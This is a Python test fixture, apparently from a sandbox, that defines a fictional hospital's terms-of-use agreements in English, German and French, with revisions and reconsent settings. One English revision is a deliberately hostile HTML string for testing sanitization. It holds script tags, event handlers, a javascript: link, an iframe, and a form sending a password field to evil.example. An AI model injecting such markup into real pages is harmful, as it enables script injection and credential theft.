"""The agreements of an invented hospital: languages, revisions and their texts, as written down. Values only.

One is in three languages and HTML, with scripts in it that no page may run; one is plain text; one is switched off.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import msgspec

from csrdesk.sandbox import ids

DEFAULT_LOCALE = "en"
"""Of the environment."""


class Revision(msgspec.Struct, frozen=True, kw_only=True):
    """A text, from a moment on."""

    id: str
    effective_at: datetime | None = None
    after: timedelta = timedelta()
    """Where there is no moment: how long after the sandbox's start it counts."""
    reconsent: bool = False
    """Whether those who took an older one are asked again."""
    html: bool = False
    text: str

    def begins(self, started_at: datetime) -> datetime:
        """From when it counts."""
        return self.effective_at or started_at + self.after


class Language(msgspec.Struct, frozen=True, kw_only=True):
    """An agreement in one language; its revisions in the order in which they count."""

    id: str
    locale: str
    title: str
    accept: str
    proceed: str
    decline: str
    revisions: tuple[Revision, ...]
    enabled: bool = True


class Agreement(msgspec.Struct, frozen=True, kw_only=True):
    """What users are asked to agree to."""

    id: str
    name: str
    languages: tuple[Language, ...]
    enabled: bool = True
    reconsent_days: int = 0
    """After so many days a consent counts no more; 0 for never."""


NEXT_REVISION = timedelta(days=60)
"""After the sandbox's start a new revision of the English text counts, and everybody is asked again."""

_HOSTILE = """<h2 onclick="alert(1)">Terms of use</h2>
<script>document.title = "taken over"</script>
<img src="x" onerror="document.title = 'taken over'">
<p style="position:fixed;inset:0">Your account is for <strong>your own</strong> care. Keep what signs you in to
yourself.</p>
<ul><li>We keep your name and your address.</li><li>You can end your account at any time.</li></ul>
<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="password"></form>
<p><a href="javascript:alert(1)">Questions?</a> <a href="https://care.example/terms">The whole text</a></p>
"""
_GERMAN = """<h2>Nutzungsbedingungen</h2>
<p>Ihr Konto ist für <strong>Ihre eigene</strong> Versorgung. Behalten Sie für sich, womit Sie sich anmelden.</p>
"""
_FRENCH = """<h2>Conditions d’utilisation</h2>
<p>Votre compte sert à <strong>vos propres</strong> soins. Gardez pour vous ce qui vous permet de vous connecter.</p>
"""
_PLAIN = """Terms of use

Your account is for your own care. 1 < 2 & <b>this is no markup</b>.

Keep what signs you in to yourself.
"""


def _since(year: int) -> datetime:
    return datetime(year, 2, 1, 8, 0, tzinfo=UTC)


def _revision(name: str, year: int, text: str, *, html: bool = True, reconsent: bool = False) -> Revision:
    id_ = ids.stable("revision", name)
    return Revision(id=id_, effective_at=_since(year), text=text, html=html, reconsent=reconsent)


_ENGLISH = Language(
    id=ids.stable("agreement language", "terms/en"),
    locale="en",
    title="Terms of use",
    accept="I have read the terms and accept them.",
    proceed="Continue",
    decline="Decline",
    revisions=(
        _revision("terms/en/1", 2019, "<p>Terms of use of 2019.</p>"),
        _revision("terms/en/2", 2024, _HOSTILE, reconsent=True),
        Revision(
            id=ids.stable("revision", "terms/en/3"),
            after=NEXT_REVISION,
            text="<h2>Terms of use</h2><p>The new ones.</p>",
            html=True,
            reconsent=True,
        ),
    ),
)
AGREEMENTS: tuple[Agreement, ...] = (
    Agreement(
        id=ids.AGREEMENT,
        name="Terms of use",
        languages=(
            _ENGLISH,
            Language(
                id=ids.stable("agreement language", "terms/de"),
                locale="de",
                title="Nutzungsbedingungen",
                accept="Ich habe die Bedingungen gelesen und nehme sie an.",
                proceed="Weiter",
                decline="Ablehnen",
                revisions=(_revision("terms/de/1", 2024, _GERMAN),),
            ),
            Language(
                id=ids.stable("agreement language", "terms/fr"),
                locale="fr-FR",
                title="Conditions d’utilisation",
                accept="J’ai lu les conditions et je les accepte.",
                proceed="Continuer",
                decline="Refuser",
                revisions=(_revision("terms/fr/1", 2024, _FRENCH),),
            ),
        ),
    ),
    Agreement(
        id=ids.AGREEMENT_PLAIN,
        name="Terms of use in plain text",
        reconsent_days=365,
        languages=(
            Language(
                id=ids.stable("agreement language", "plain/en"),
                locale="en",
                title="Terms of use",
                accept="",
                proceed="",
                decline="",
                revisions=(_revision("plain/en/1", 2024, _PLAIN, html=False),),
            ),
        ),
    ),
    Agreement(id=ids.AGREEMENT_OFF, name="Switched off", enabled=False, languages=(_ENGLISH,)),
)
